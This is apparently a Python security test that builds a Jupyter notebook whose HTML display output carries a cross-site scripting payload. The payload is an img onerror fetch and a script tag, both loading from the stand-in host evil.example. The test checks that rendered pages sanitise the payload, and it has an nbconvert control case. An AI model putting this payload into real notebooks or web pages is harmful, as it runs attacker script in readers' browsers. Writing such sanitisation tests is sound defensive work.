# A display that is a script, in the pages made of it.
# stopped by: outputs are kept by kind, HTML among them cleaned by nh3; the pages allow no script
# control: own
# expect: graded 0

import json

from target import cells_of, notebook, obeyed

MARK = "evil.example"
PAYLOAD = '<img src=x onerror="fetch(\'//evil.example\')"><script src=\'//evil.example/a.js\'></script>'


def make(folder, name, honest):
    found = notebook(cells_of({}, {"": f"from IPython.display import display\ndisplay({{'text/html': {PAYLOAD!r}}}, raw=True)"}))
    (folder / f"{name}.ipynb").write_text(json.dumps(found))


def control(folder):
    """The same in a page as nbconvert writes it for whoever trusts the notebook."""
    from nbconvert import HTMLExporter
    from nbformat import from_dict

    cells = [{"cell_type": "code", "id": "a", "source": "", "metadata": {}, "execution_count": 1, "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": PAYLOAD}}]}]
    page, _ = HTMLExporter().from_notebook_node(from_dict(notebook([]) | {"cells": cells}))
    return browsed(page)


def browsed(page):
    return obeyed(page, MARK)
